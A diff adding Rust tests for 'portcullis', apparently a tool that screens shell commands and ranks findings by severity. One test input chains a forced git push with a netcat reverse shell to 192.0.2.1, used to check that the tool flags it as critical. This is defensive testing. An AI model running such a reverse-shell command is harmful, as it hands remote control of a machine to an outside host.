@@ -110,6 +110,35 @@ fn people_see_the_verdict_the_words_the_step_the_rule_and_the_remedy() {
 }
 
 #[test]
+fn people_see_what_was_found_and_what_clears_it() {
+    let sandbox = Sandbox::new();
+    let ran = sandbox.run(&[
+        "check",
+        "--mode",
+        "auto",
+        "git push --force origin topic; nc -e /bin/sh 192.0.2.1 4444",
+    ]);
+    assert_eq!(ran.code, Some(2), "{}{}", ran.stdout, ran.stderr);
+    let findings = ran.stdout.split("\n\n").find(|block| block.starts_with("  findings\n")).unwrap();
+    let lines: Vec<&str> = findings.lines().map(str::trim).collect();
+    let place = |start: &str| lines.iter().position(|line| line.starts_with(start));
+    let (hard, soft) = (place("PC031 critical").unwrap(), place("PC007 high").unwrap());
+    assert!(hard < soft, "the worst comes first\n{findings}");
+    assert_eq!(
+        lines[hard + 1..=hard + 2],
+        ["nothing the user says clears it", "explain: portcullis explain PC031"]
+    );
+    assert_eq!(
+        lines[soft + 1..=soft + 2],
+        [
+            "the user's own words clear it if they name the forced push and the branch",
+            "explain: portcullis explain PC007",
+        ]
+    );
+    assert!(!sandbox.run(&["check", "ls"]).stdout.contains("findings"), "nothing is found in it");
+}
+
+#[test]
 fn what_would_change_it_does() {
     let sandbox = Sandbox::with_user_settings(RULES);
     let remedies = |command: &str| {
@@ -246,6 +275,7 @@ fn what_a_command_contains_cannot_reach_the_terminal_raw() {
         vec!["check", "--allow", hostile, "ls"],
         vec!["rules", "explain", hostile],
         vec!["rules", "test", hostile],
+        vec!["explain", hostile],
         vec![hostile],
     ] {
         let ran = sandbox.run(&arguments);
@@ -266,6 +296,7 @@ fn an_answer_that_cannot_be_written_is_not_an_answer() {
         ["check", "ls"].as_slice(),
         &["check", "--json", "ls"],
         &["modes"],
+        &["explain", "PC007"],
         &["--help"],
         &["check", "--help"],
         &["--version"],
